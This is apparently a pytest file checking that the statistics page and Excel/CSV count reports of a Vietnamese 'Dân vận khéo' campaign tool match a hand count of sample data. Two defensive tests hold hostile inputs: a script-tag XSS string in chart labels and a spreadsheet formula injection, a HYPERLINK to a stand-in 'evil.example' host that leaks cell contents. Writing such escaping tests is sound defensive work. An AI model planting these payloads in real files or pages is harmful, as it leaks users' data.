"""The statistics page and the Board's count report agree with a hand count of the sample data.

The hand count reads the sample files with yaml directly, never through dvk, so a counting
mistake in dvk cannot hide by being made twice.
"""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from conftest import REPO, TinyProject, collective, run_dvk
from dvk.cli import main
from dvk.pages.charts import bar_chart
from dvk.stats import Table

UNITS = yaml.safe_load((REPO / "exemplars" / "units.yml").read_text(encoding="utf-8"))
UNIT = {u["id"]: u for u in UNITS["units"]}
COMMUNE = {c["id"]: c for c in UNITS["areas"] if c["level"] == "xa"}
SITE = yaml.safe_load((REPO / "exemplars" / "site.yml").read_text(encoding="utf-8"))
CAMPAIGN = next(c for c in yaml.safe_load((REPO / "exemplars" / "campaigns.yml").read_text(encoding="utf-8"))
                if c["id"] == SITE["default_campaign"])
CATEGORIES = CAMPAIGN["lines"]["categories"]
# The per-unit target counts the units standing on the day the campaign names (by the tổng kết
# every unit of the 2024–2025 campaign had ended in the 2025 reorganization).
DAY = CAMPAIGN["participants"]["as_of"]


def published() -> list[dict[str, Any]]:
    """The published exemplars of the site's default campaign (the statistics page's)."""
    found = []
    for path in sorted((REPO / "exemplars").glob("*/*.md")):
        front = path.read_text(encoding="utf-8").split("---\n", 2)[1]
        data = yaml.safe_load(front)
        if not data.get("draft") and data.get("campaign", CAMPAIGN["id"]) == CAMPAIGN["id"]:
            found.append(data)
    return found


def standing(items: dict[str, dict[str, Any]], key: str, on: date | None) -> str:
    while items[key].get("merged_into") and (on is None or items[key]["until"] < on):
        key = items[key]["merged_into"]["id"]
    return key


def alive(item: dict[str, Any], on: date) -> bool:
    return item.get("from", date.min) <= on <= item.get("until", date.max)


def standing_units(on: date) -> list[dict[str, Any]]:
    return [u for u in UNITS["units"] if alive(u, on)]


def area_of(unit: dict[str, Any], on: date) -> str | None:
    if "area" in unit:
        return unit["area"]
    spans = [a for a in unit.get("areas", []) if alive(a, on)] or unit.get("areas", [])[:1]
    return spans[0]["id"] if spans else None


def aired(data: dict[str, Any], by: date | None = None) -> bool:
    return any("dân vận khéo" in (m.get("programme") or "").lower() and (by is None or m["date"] <= by)
               for m in data.get("media", []))


def nominated(data: dict[str, Any], level: str, by: date | None = None) -> bool:
    return any(n["level"] == level and (by is None or n["date"] <= by) for n in data.get("nominations", []))


def in_year(year: int) -> list[dict[str, Any]]:
    return [d for d in published() if d["recognition"]["date"].year == year]


# --- the page ----------------------------------------------------------------------------------

def sections(site: Path) -> dict[str, tuple[Tag, Tag]]:
    """Section title → (chart figure, data table) of /thong-ke/."""
    soup = BeautifulSoup((site / "thong-ke" / "index.html").read_text(encoding="utf-8"), "html.parser")
    found = {}
    for heading in soup.select("article h2"):
        figure = heading.find_next("figure")
        found[heading.get_text(strip=True).rstrip("¶")] = (figure, figure.find_next("table"))
    return found


def number(text: str) -> float:
    return float(text.replace(".", "").replace(",", "."))


def column(table: Tag, index: int = 1) -> dict[str, float]:
    """First column → the number in column `index`, for the body rows that are not the total."""
    rows = {}
    for tr in table.select("tbody tr"):
        cells = [td.get_text(strip=True) for td in tr.find_all("td")]
        if cells[0] != "Cộng":
            rows[cells[0]] = number(cells[index])
    return rows


@pytest.fixture(scope="module")
def page(sample_site: Path) -> dict[str, tuple[Tag, Tag]]:
    return sections(sample_site)


def test_the_targets_table_counts_by_the_level_of_the_recognized_unit(page: dict[str, tuple[Tag, Tag]]) -> None:
    data = published()
    levels = Counter(UNIT[d["unit"]]["level"] for d in data)
    current = standing_units(DAY)
    met = {standing(UNIT, d["unit"], DAY) for d in data}
    assert column(page["Kết quả so với chỉ tiêu"][1]) == {
        "Toàn huyện": len(data), "Cấp huyện": levels["huyen"], "Cấp xã": levels["xa"],
        "Đơn vị có ít nhất 1 điển hình": len(met)}
    assert column(page["Kết quả so với chỉ tiêu"][1], 2) == {
        "Toàn huyện": 100, "Cấp huyện": 6, "Cấp xã": 94, "Đơn vị có ít nhất 1 điển hình": len(current)}


def test_every_standing_unit_is_listed_with_its_count_units_with_none_first(
        page: dict[str, tuple[Tag, Tag]]) -> None:
    counts = Counter(standing(UNIT, d["unit"], DAY) for d in published())
    current = {u["name"]: counts[u["id"]] for u in standing_units(DAY)}
    shown = column(page["Theo đơn vị"][1], 2)
    assert shown == current
    values = list(shown.values())
    assert values.index(next(v for v in values if v)) == sum(1 for v in values if not v)  # zeros first
    statuses = [tr.find_all("td")[3].get_text() for tr in page["Theo đơn vị"][1].select("tbody tr")[:-1]]
    assert statuses == ["Đạt" if v else "Chưa đạt" for v in values]
    absorbed = {tr.find_all("td")[0].get_text(): tr.find_all("td")[4].get_text()
                for tr in page["Theo đơn vị"][1].select("tbody tr")}
    assert "Khối vận xã Phú An Hòa" in absorbed["Khối vận xã An Phước"]


def test_communes_categories_groups_kinds_and_fields_match_the_hand_count(
        page: dict[str, tuple[Tag, Tag]]) -> None:
    data = published()
    communes = Counter(standing(COMMUNE, area, DAY) for d in data
                       if (area := area_of(UNIT[d["unit"]], d["recognition"]["date"])) in COMMUNE)
    assert column(page["Theo xã, phường, thị trấn"][1]) == {
        c["name"]: communes[c["id"]] for c in COMMUNE.values() if alive(c, DAY)}
    categories = Counter(c for d in data for c in d["categories"])
    assert column(page["Theo nội dung thi đua “Hai chân – Ba mũi”"][1]) == {
        f"{c['title']}: {c['short']}": categories[c["id"]] for c in CATEGORIES}
    groups = yaml.safe_load((REPO / "exemplars" / "groups.yml").read_text(encoding="utf-8"))
    counted = Counter(g for d in data for g in d.get("groups", []))
    assert column(page["Theo nhóm"][1]) == {
        **{g["title"]: counted[g["id"]] for g in groups},
        "Không thuộc nhóm nào": sum(1 for d in data if not d.get("groups"))}
    kinds = Counter(d["kind"] for d in data)
    assert column(page["Theo loại"][1]) == {"Tập thể": kinds["collective"], "Cá nhân": kinds["individual"]}
    fields = Counter(f for d in data for f in d.get("fields", []))
    shown = column(page["Theo lĩnh vực"][1])
    assert sum(shown.values()) == sum(fields.values()) + sum(1 for d in data if not d.get("fields"))


def test_months_steps_nominations_and_airings_match_the_hand_count(page: dict[str, tuple[Tag, Tag]]) -> None:
    data = published()
    months = Counter((d["recognition"]["date"].year, d["recognition"]["date"].month) for d in data)
    shown = column(page["Theo tháng công nhận"][1])
    assert {k: v for k, v in shown.items() if v} == {f"Tháng {m}/{y}": n for (y, m), n in months.items()}
    assert list(column(page["Theo tháng công nhận"][1], 2).values())[-1] == len(data)  # cumulative
    steps = Counter(max(d["steps"], key=lambda s: (s["date"], s["step"]))["step"]
                    for d in data if d.get("steps"))
    shown = column(page["Theo bước: Năm bước của Kế hoạch 330-KH/TU"][1])
    assert [shown[k] for k in shown if k.startswith("Bước")] == [steps[n] for n in range(1, 6)]
    assert shown["Chưa ghi bước nào"] == sum(1 for d in data if not d.get("steps"))
    assert column(page["Đề nghị cấp trên biểu dương, nhân rộng"][1]) == {
        "Đề nghị cấp huyện": sum(nominated(d, "huyen") for d in data),
        "Đề nghị cấp tỉnh": sum(nominated(d, "tinh") for d in data)}
    on_air = sum(aired(d) for d in data)
    assert column(page["Lên chuyên mục “Dân vận khéo”"][1]) == {
        "Đã lên chuyên mục “Dân vận khéo”": on_air, "Chưa lên chuyên mục": len(data) - on_air}
    assert 0 < on_air < len(data)


def test_every_chart_draws_exactly_its_table(page: dict[str, tuple[Tag, Tag]]) -> None:
    assert len(page) == 11
    for title, (figure, table) in page.items():
        svg = figure.find("svg")
        assert svg["role"] == "img"
        named = svg["aria-labelledby"].split()
        assert [svg.find(id=i).name for i in named] == ["title", "desc"]
        assert svg.find("title").get_text() == title
        headers = [th.get_text(strip=True) for th in table.select("thead th")]
        target = headers.index("Mục tiêu") if "Mục tiêu" in headers else None
        value = 2 if headers[:2] == ["Đơn vị", "Cấp"] else 1
        rows = [[td.get_text(strip=True) for td in tr.find_all("td")] for tr in table.select("tbody tr")]
        rows = [r for r in rows if r[0] != "Cộng"]
        bars = svg.select("g.bar")
        assert [b.find("text").get_text() for b in bars] == [r[0] for r in rows], title
        widths = [float(b.select_one("rect.value")["width"].rstrip("%")) for b in bars]
        values = [number(r[value]) for r in rows]
        if target is not None:
            tracks = [float(b.select_one("rect.track")["width"].rstrip("%")) for b in bars]
            for w, t, v, r in zip(widths, tracks, values, rows, strict=True):
                assert w / t == pytest.approx(min(v / number(r[target]), 1), abs=1e-3), (title, r)
        else:
            longest, top = max(widths), max(values)
            for w, v in zip(widths, values, strict=True):
                assert w / longest == pytest.approx(v / top, abs=1e-3), title


def test_every_table_downloads_as_csv_that_excel_opens(sample_site: Path,
                                                         page: dict[str, tuple[Tag, Tag]]) -> None:
    soup = BeautifulSoup((sample_site / "thong-ke" / "index.html").read_text(encoding="utf-8"), "html.parser")
    links = [a["href"] for a in soup.select("article a[href$='.csv']")]
    assert len(links) == len(page)
    for href, (_, table) in zip(links, page.values(), strict=True):
        raw = (sample_site / "thong-ke" / href).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows[0] == [th.get_text(strip=True) for th in table.select("thead th")]
        shown = [[td.get_text(strip=True) for td in tr.find_all("td")] for tr in table.select("tbody tr")]
        assert [r[0] for r in rows[1:]] == [r[0] for r in shown]
        for got, want in zip(rows[1:], shown, strict=True):
            for g, w in zip(got, want, strict=True):
                if g.replace(".", "", 1).isdigit():
                    assert float(g) == number(w)


def test_chart_labels_are_text_never_markup() -> None:
    hostile = "<script>alert(1)</script> & “Đ”"
    svg = BeautifulSoup(bar_chart(Table("x", hostile, hostile, ("a", "b"), ((hostile, 3), ("b", 0)))),
                        "html.parser")
    assert svg.find("script") is None
    assert svg.find("g").find("text").get_text() == hostile
    assert svg.find("title").get_text() == hostile


# --- the report ---------------------------------------------------------------------------------

def report_rows(start: date, end: date) -> dict[str, list[int]]:
    """Unit name → [recognized, collective, individual, categories…, to huyện, to tỉnh, aired]."""
    day = min(end, DAY)
    rows: dict[str, list[int]] = {u["name"]: [0] * (3 + len(CATEGORIES) + 3) for u in standing_units(day)}
    for d in published():
        if not start <= d["recognition"]["date"] <= end:
            continue
        row = rows[UNIT[standing(UNIT, d["unit"], day)]["name"]]
        row[0] += 1
        row[1 if d["kind"] == "collective" else 2] += 1
        for i, c in enumerate(CATEGORIES):
            row[3 + i] += c["id"] in d["categories"]
        row[-3] += nominated(d, "huyen", end)
        row[-2] += nominated(d, "tinh", end)
        row[-1] += aired(d, end)
    return rows


def run_report(tmp_path: Path, *args: str) -> Path:
    suffix = args[-1] if args and args[-1] in ("csv", "xlsx") else "md"
    out = tmp_path / f"report-{len(list(tmp_path.iterdir()))}.{suffix}"
    assert main(["--root", str(REPO), "report", *args, "--output", str(out)]) == 0
    return out


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize("year", [2024, 2025])
def test_the_yearly_report_rows_equal_the_hand_count(tmp_path: Path, year: int) -> None:
    start, end = date(year, 1, 1), date(year, 12, 31)
    rows = read_csv(run_report(tmp_path, "--from", str(start), "--to", str(end), "--format", "csv"))
    header, body, total = rows[0], rows[1:-1], rows[-1]
    assert header[:5] == ["Đơn vị", "Cấp", "Số điển hình", "Tập thể", "Cá nhân"]
    assert {r[0]: [int(v) for v in r[2:]] for r in body} == report_rows(start, end)
    assert total[0] == "Cộng" and int(total[2]) == len(in_year(year))


def test_the_2024_report_leaves_out_what_was_recognized_in_2025(tmp_path: Path) -> None:
    rows = read_csv(run_report(tmp_path, "--from", "2024-01-01", "--to", "2024-12-31", "--format", "csv"))
    later = in_year(2025)
    assert later and int(rows[-1][2]) == len(published()) - len(later)
    end = date(2024, 12, 31)
    only_2025 = ({UNIT[standing(UNIT, d["unit"], end)]["name"] for d in later}
                 - {UNIT[standing(UNIT, d["unit"], end)]["name"] for d in in_year(2024)})
    assert only_2025 and all(int(r[2]) == 0 for r in rows[1:-1] if r[0] in only_2025)
    # A nomination or airing dated 2025 does not count in the 2024 report of a 2024 exemplar.
    assert int(rows[-1][-1]) == sum(aired(d, end) for d in in_year(2024))
    assert int(rows[-1][-1]) < sum(aired(d) for d in in_year(2024))  # the sample airs one in 2025
    assert [int(v) for v in rows[-1][-3:-1]] == [sum(nominated(d, level, end) for d in in_year(2024))
                                                  for level in ("huyen", "tinh")]


def test_a_merged_unit_counts_on_its_own_until_the_merger_then_under_the_absorbing_unit(tmp_path: Path) -> None:
    before = read_csv(run_report(tmp_path, "--from", "2024-01-01", "--to", "2024-11-30", "--format", "csv"))
    after = read_csv(run_report(tmp_path, "--from", "2024-01-01", "--to", "2024-12-31", "--format", "csv"))
    names_before, names_after = [r[0] for r in before[1:-1]], [r[0] for r in after[1:-1]]
    assert "Khối vận xã Phú An Hòa" in names_before and "Khối vận xã Phú An Hòa" not in names_after
    assert report_rows(date(2024, 1, 1), date(2024, 11, 30))["Khối vận xã Phú An Hòa"][0] >= 1


def test_units_are_sorted_by_level_then_vietnamese_order(tmp_path: Path) -> None:
    rows = read_csv(run_report(tmp_path, "--format", "csv"))[1:-1]
    levels = [r[1] for r in rows]
    assert levels == sorted(levels, key=["Cấp huyện", "Cấp xã"].index)
    district = [r[0] for r in rows if r[1] == "Cấp huyện"]
    assert district.index("Hội Nông dân huyện Châu Thành") < district.index("Huyện Đoàn Châu Thành")
    assert district[-1] == "Ủy ban MTTQ Việt Nam huyện Châu Thành"  # U after L, not before B


def test_the_excel_workbook_holds_the_same_rows_and_the_same_bytes_every_time(tmp_path: Path) -> None:
    args = ("--from", "2024-01-01", "--to", "2024-12-31")
    first = run_report(tmp_path, *args, "--format", "xlsx")
    again = run_report(tmp_path, *args, "--format", "xlsx")
    assert first.read_bytes() == again.read_bytes()
    sheet = openpyxl.load_workbook(first)["Theo đơn vị"]
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    rows = read_csv(run_report(tmp_path, *args, "--format", "csv"))
    assert [[str(v) if v is not None else "" for v in r] for r in values] == rows
    assert openpyxl.load_workbook(first).properties.modified.date() == date(2024, 12, 31)


def test_the_printable_report_has_the_targets_the_rows_and_the_notes(tmp_path: Path) -> None:
    text = run_report(tmp_path, "--from", "2024-01-01", "--to", "2024-12-31").read_text(encoding="utf-8")
    assert text.startswith("# Báo cáo số lượng điển hình “Dân vận khéo”")
    assert f"| Toàn huyện | {len(in_year(2024))} | 100 |" in text
    for name, row in report_rows(date(2024, 1, 1), date(2024, 12, 31)).items():
        assert f"| {name} | " in text and f" | {row[0]} | {row[1]} | {row[2]} |" in text
    assert "từ ngày 01/01/2024 đến ngày 31/12/2024" in text
    assert "Số liệu của Khối vận xã Phú An Hòa tính cho Khối vận xã An Phước" in text


@pytest.mark.parametrize("args", [("--from", "2024-02-30"), ("--to", "hôm nay"),
                                  ("--from", "2025-01-01", "--to", "2024-12-31")])
def test_a_bad_date_is_a_clear_message_and_exit_2(args: tuple[str, ...]) -> None:
    result = run_dvk("report", *args, cwd=REPO)
    assert result.returncode == 2
    assert result.stderr.startswith("dvk report: ") and "Traceback" not in result.stderr
    assert result.stdout == ""


def test_report_help_is_vietnamese_with_examples() -> None:
    result = run_dvk("report", "--help", cwd=REPO)
    assert "ví dụ:" in result.stdout and "--format xlsx --output" in result.stdout
    assert "DD/MM/YYYY" in result.stdout


def test_dates_may_be_written_the_vietnamese_way(tmp_path: Path) -> None:
    iso = run_report(tmp_path, "--from", "2024-01-01", "--to", "2024-12-31", "--format", "csv")
    vi = run_report(tmp_path, "--from", "01/01/2024", "--to", "31/12/2024", "--format", "csv")
    assert iso.read_bytes() == vi.read_bytes()



def test_no_cell_of_the_workbook_is_a_formula_whatever_the_names_say(project: TinyProject, tmp_path: Path) -> None:
    units = project.root / "exemplars" / "units.yml"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    text = units.read_text(encoding="utf-8")
    assert "name: Khối vận xã Giao Long," in text
    units.write_text(text.replace("name: Khối vận xã Giao Long,", f"name: '{hostile}',")
                     .replace("name: Ban Dân vận Huyện ủy Châu Thành,", "name: '@SUM(1+1)',"), encoding="utf-8")
    project.add(collective())
    out = tmp_path / "report.xlsx"
    assert main(["--root", str(project.root), "report", "--format", "xlsx", "--output", str(out)]) == 0
    workbook = openpyxl.load_workbook(out)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + hostile in texts and "'@SUM(1+1)" in texts  # shown as typed, as the CSV shows it
